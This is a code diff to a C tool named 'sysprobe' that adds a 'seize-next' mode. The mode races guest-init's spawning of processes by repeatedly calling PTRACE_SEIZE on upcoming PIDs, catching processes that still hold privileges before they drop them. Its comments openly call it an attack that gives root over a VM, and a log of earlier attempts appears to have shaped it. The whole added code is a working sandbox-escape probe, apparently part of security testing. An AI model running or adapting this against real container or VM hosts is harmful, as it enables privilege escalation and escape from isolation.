@@ -13,8 +13,15 @@
  *   sysprobe reconfigure PATH   makes the proc filesystem mounted at PATH
  *                               (e.g. a sibling's /proc/PID/root/proc)
  *                               show PIDs only: fspick + fsconfig
+ *   sysprobe seize-next         PTRACE_SEIZE the pod's next PIDs until
+ *                               SIGTERM (check-vm's seize race: see
+ *                               seize_next)
  */
+#include <dirent.h>
 #include <errno.h>
+#include <fcntl.h>
+#include <stdlib.h>
+#include <sys/ptrace.h>
 #include <pthread.h>
 #include <sched.h>
 #include <signal.h>
@@ -141,12 +148,134 @@ static int reconfigure(const char *path)
 	return 0;
 }
 
+/* The highest PID the pod's /proc lists. Not ns_last_pid: the VM's kernel
+ * has no CONFIG_CHECKPOINT_RESTORE, so there is no such file (session 11's
+ * first try of this attack read it, got nothing, and seized PID 0 for its
+ * whole run). */
+static long last_pid(void)
+{
+	DIR *d = opendir("/proc");
+	struct dirent *e;
+	long max = -1, v;
+
+	if (!d)
+		return -1;
+	while ((e = readdir(d)) != NULL) {
+		if (e->d_name[0] >= '0' && e->d_name[0] <= '9' && (v = atol(e->d_name)) > max)
+			max = v;
+	}
+	closedir(d);
+	return max;
+}
+
+/* /proc/PID/FILE's line starting with KEY, its value; "" if none. */
+static void status_field(long pid, const char *key, char *out, size_t cap)
+{
+	char path[64], buf[4096], *p;
+	int fd;
+	ssize_t n;
+
+	out[0] = 0;
+	snprintf(path, sizeof(path), "/proc/%ld/status", pid);
+	fd = open(path, O_RDONLY | O_CLOEXEC);
+	n = fd < 0 ? -1 : read(fd, buf, sizeof(buf) - 1);
+	if (fd >= 0)
+		close(fd);
+	if (n <= 0)
+		return;
+	buf[n] = 0;
+	p = strstr(buf, key);
+	if (!p)
+		return;
+	p += strlen(key);
+	while (*p == '\t' || *p == ' ')
+		p++;
+	snprintf(out, cap, "%.*s", (int)strcspn(p, "\n"), p);
+}
+
+static volatile sig_atomic_t seize_stop;
+
+static void on_term(int sig)
+{
+	(void)sig;
+	seize_stop = 1;
+}
+
+/*
+ * The attack on guest-init's spawning (check-vm's seize race): with
+ * CAP_SYS_PTRACE,  PTRACE_SEIZE the pod's next PID over
+ * and over (the pod's PIDs count up from the highest it lists), to attach to a process guest-init starts before it has
+ * dropped guest-init's privileges. Each process seized is looked at and
+ * let go: "held PID CapEff MNT" where MNT says whether its mount namespace
+ * is still guest-init's ("guest-init") or a container's ("container"), or
+ * "gone" when it ended before it could be looked at,
+ * and its capabilities are printed as the kernel shows them. A process
+ * with guest-init's mount namespace or more capabilities than this one is
+ * root over the VM: its tracer can make it run any code. On SIGTERM:
+ * "tries N: ESRCH a, EPERM b, other c, seized d".
+ */
+static int seize_next(void)
+{
+	char own_mnt[64], mnt[64], path[64], caps[32], own_caps[32];
+	long next, tries = 0, esrch = 0, eperm = 0, other = 0, seized = 0;
+	ssize_t n;
+	int st;
+
+	signal(SIGTERM, on_term);
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	n = readlink("/proc/self/ns/mnt", own_mnt, sizeof(own_mnt) - 1);
+	own_mnt[n > 0 ? n : 0] = 0;
+	status_field(getpid(), "CapEff:", own_caps, sizeof(own_caps));
+	next = last_pid() + 1;
+	if (next <= 0) {
+		printf("cannot list /proc: %s\n", strerror(errno));
+		return 1;
+	}
+	while (!seize_stop) {
+		tries++;
+		if (ptrace(PTRACE_SEIZE, (pid_t)next, 0, 0) < 0) {
+			if (errno == ESRCH)
+				esrch++;
+			else if (errno == EPERM)
+				eperm++;
+			else
+				other++;
+			/* EPERM: traced (guest-init's tracee until its exec):
+			 * again, until it is let go. ESRCH: not made yet, or
+			 * gone; a newer process listed is the one to try. */
+			if (errno == ESRCH && (tries & 15) == 0) {
+				long last = last_pid();
+
+				if (last > next)
+					next = last;
+			}
+			continue;
+		}
+		seized++;
+		status_field(next, "CapEff:", caps, sizeof(caps));
+		snprintf(path, sizeof(path), "/proc/%ld/ns/mnt", next);
+		n = readlink(path, mnt, sizeof(mnt) - 1);
+		mnt[n > 0 ? n : 0] = 0;
+		printf("held %ld %s %s\n", next, caps[0] ? caps : "-",
+		       n <= 0 || !caps[0] ? "gone" : strcmp(mnt, own_mnt) == 0 ? "container" : "guest-init");
+		if (ptrace(PTRACE_INTERRUPT, (pid_t)next, 0, 0) == 0 &&
+		    waitpid((pid_t)next, &st, __WALL) == (pid_t)next && WIFSTOPPED(st))
+			ptrace(PTRACE_DETACH, (pid_t)next, 0, 0);
+		next++;
+	}
+	printf("own CapEff %s; tries %ld: ESRCH %ld, EPERM %ld, other %ld, seized %ld\n", own_caps, tries,
+	       esrch, eperm, other, seized);
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	int i;
 
 	if (argc == 2 && strcmp(argv[1], "zombie-leader") == 0)
 		return zombie_leader();
+	if (argc == 2 && strcmp(argv[1], "seize-next") == 0)
+		return seize_next();
 	if (argc == 3 && strcmp(argv[1], "reconfigure") == 0)
 		return reconfigure(argv[2]);
 
